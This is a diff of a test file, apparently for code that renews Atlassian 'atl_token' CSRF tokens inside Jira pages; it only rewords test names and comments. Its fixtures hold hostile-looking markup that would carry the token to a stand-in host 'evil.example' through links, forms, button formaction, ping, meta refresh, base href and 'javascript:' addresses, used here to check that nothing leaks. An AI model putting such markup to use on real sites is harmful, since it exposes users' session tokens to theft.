@@ -12,7 +12,7 @@ const OTHER = tokenText({ secret: 'c'.repeat(40) });
 const SHAPES = `${import.meta.dirname}/../fixtures/pages`;
 
 describe('a renewal', () => {
-  test('writes the new token wherever the old one stood, whatever the element is', () => {
+  test('writes the new token wherever the old one was, in any element', () => {
     const page = parse(`
       <meta id="atlassian-token" name="atlassian-token" content="${OLD}">
       <meta name="atlassian-token" content="${OLD}">
@@ -33,7 +33,7 @@ describe('a renewal', () => {
     expect(page.querySelector('input')!.value).toBe(NEW);
   });
 
-  test('reaches what the page has in store in its templates', () => {
+  test('writes into the page’s templates too', () => {
     const page = parse(
       `<template><p><a href="/x?atl_token=${OLD}"></a></p><template><a href="/y?atl_token=${OLD}"></a></template></template>`,
     );
@@ -42,11 +42,11 @@ describe('a renewal', () => {
   });
 
   test.each(readdirSync(SHAPES).filter((name) => /^jira-(?!cloud).*-lin/.test(name)))(
-    'of %s leaves nothing of the old token behind',
+    'of %s removes every trace of the old token',
     (name) => {
       const page = parse(readFileSync(`${SHAPES}/${name}`, 'utf8'));
       const old = page.querySelector<HTMLMetaElement>('meta#atlassian-token')?.content;
-      // The customer portal's pages carry none.
+      // The customer portal's pages have no token.
       if (!old) return;
       const before = page.documentElement.outerHTML;
       const secret = /[0-9a-f]{40}/.exec(old)![0];
@@ -57,20 +57,20 @@ describe('a renewal', () => {
 
   test.each([
     [
-      'a list of a moving picture',
+      'an animation’s list of values',
       `<svg><a><animate attributeName="href" values="x;/&#9;/evil.example?OLD"/></a></svg>`,
     ],
-    ['a picture in a drawing', `<svg><image href="/secure/Do.jspa?atl_token=OLD"/></svg>`],
-    ['a mask of a drawing', `<svg><rect mask="url(/secure/Do.jspa?atl_token=OLD)"/></svg>`],
-    ['a page that goes on by itself', `<meta http-equiv="refresh" content="99;url=/secure/Do.jspa?atl_token=OLD">`],
-    ['a link of which another host is told', `<a href="/x?atl_token=OLD" ping="/y https://evil.example">x</a>`],
-    ['a text in which a line turns', `<p data-to='["/&#10;/evil.example?OLD"]'></p>`],
-  ])('leaves alone what would load, or lead to another host: %s', (_what, markup) => {
+    ['an image in an SVG', `<svg><image href="/secure/Do.jspa?atl_token=OLD"/></svg>`],
+    ['a mask in an SVG', `<svg><rect mask="url(/secure/Do.jspa?atl_token=OLD)"/></svg>`],
+    ['a redirect by a meta element', `<meta http-equiv="refresh" content="99;url=/secure/Do.jspa?atl_token=OLD">`],
+    ['a link that pings another host', `<a href="/x?atl_token=OLD" ping="/y https://evil.example">x</a>`],
+    ['an attribute with an escaped line break', `<p data-to='["/&#10;/evil.example?OLD"]'></p>`],
+  ])('leaves alone what would load something, or lead to another host: %s', (_what, markup) => {
     const page = parse(markup.replaceAll('OLD', OLD));
     expect(renew(page, OLD, NEW)).toBe(0);
   });
 
-  test('leaves alone what holds another token or none, and every text', () => {
+  test('leaves alone elements with another token or none, and every text', () => {
     const html = `<input name="atl_token" value="${OTHER}"><input name="atl_token"><input name="formToken" value="${'f'.repeat(40)}">
       <a href="/x?atl_token=${OTHER}">x</a><p>${OLD}</p><textarea>${OLD}</textarea><script>var x = '${OLD}';</script>`;
     const page = parse(html);
@@ -79,21 +79,21 @@ describe('a renewal', () => {
     expect(page.body.innerHTML).toBe(before);
   });
 
-  test('loads nothing again: neither a frame, which may hold what somebody writes, nor a picture or a style', () => {
+  test('makes nothing load again: no frame, in which a user may be writing, no image and no style', () => {
     const page = parse(
       `<iframe src="/gadget?atl_token=${OLD}"></iframe><img src="/i?atl_token=${OLD}"><link rel="stylesheet" href="/s?atl_token=${OLD}">`,
     );
     expect(renew(page, OLD, NEW)).toBe(0);
   });
 
-  test('finds a token that a query carries percent-encoded, and writes it so', () => {
+  test('replaces a token that is percent-encoded in a query', () => {
     const old = `BEXA-MPLE-0000-ABCD|${HEX_A}|lin`;
     const page = parse(`<a href="/x?atl_token=${encodeURIComponent(old)}">x</a>`);
     renew(page, old, `BEXA-MPLE-0000-ABCD|${HEX_B}|lin`);
     expect(page.querySelector('a')!.getAttribute('href')).toBe(`/x?atl_token=BEXA-MPLE-0000-ABCD%7C${HEX_B}%7Clin`);
   });
 
-  test('writes blanks only where the page had them', () => {
+  test('writes spaces into a token only if the page had them', () => {
     const cookie = `" BEXA-MPLE-0000-ABCD |${HEX_B}|lin"`;
     const plain = parse(`<meta name="atlassian-token" content="BEXA-MPLE-0000-ABCD|${HEX_A}|lin">`);
     renew(plain, `BEXA-MPLE-0000-ABCD|${HEX_A}|lin`, cookie);
@@ -109,7 +109,7 @@ describe('a renewal', () => {
   });
 });
 
-describe('a renewal gives nothing to another host', () => {
+describe('a renewal gives no token to another host', () => {
   test.each([
     ['a link', `<a href="https://evil.example/?atl_token=${OLD}"></a>`],
     ['a link without a scheme', `<a href="//evil.example/?atl_token=${OLD}"></a>`],
@@ -117,15 +117,15 @@ describe('a renewal gives nothing to another host', () => {
     ['a link to another application of the host', `<a href="https://jira.example.com/wiki/?atl_token=${OLD}"></a>`],
     ['a form', `<form action="https://evil.example/"><input name="atl_token" value="${OLD}"></form>`],
     [
-      'a form with one button that leads away',
+      'a form with one button that leads to another host',
       `<form action="/jira/x"><input name="atl_token" value="${OLD}"><button formaction="//evil.example/">Go</button></form>`,
     ],
     [
-      'a form whose button stands elsewhere',
+      'a form with a button outside of it',
       `<form id="f" action="/jira/x"><input name="atl_token" value="${OLD}"></form><button form="f" formaction="//evil.example/">Go</button>`,
     ],
     [
-      'an input that stands outside its form',
+      'an input outside of its form',
       `<form id="f" action="https://evil.example/"></form><input form="f" name="atl_token" value="${OLD}">`,
     ],
     ['a script', `<p onclick="go('https://evil.example/?atl_token=${OLD}')"></p>`],
@@ -137,7 +137,7 @@ describe('a renewal gives nothing to another host', () => {
       'a redirect without slashes',
       `<meta http-equiv="refresh" content="9; url=https:evil.example/?atl_token=${OLD}">`,
     ],
-    ['what somebody writes', `<input name="link" value="/jira/x?atl_token=${OLD}">`],
+    ['an input that the user fills in', `<input name="link" value="/jira/x?atl_token=${OLD}">`],
     ['a redirect', `<meta http-equiv="refresh" content="9; url=https://evil.example/?atl_token=${OLD}">`],
     ['a script’s address', `<a href="javascript:go('${OLD}')"></a>`],
   ])('by %s', (_name, html) => {
@@ -147,7 +147,7 @@ describe('a renewal gives nothing to another host', () => {
     expect(page.documentElement.outerHTML).toBe(before);
   });
 
-  test('where the page’s base is another host’s', () => {
+  test('even if the page’s base address is on another host', () => {
     const page = parse(`<base href="https://evil.example/"><a href="?atl_token=${OLD}"></a>`);
     expect(renew(page, OLD, NEW)).toBe(0);
   });
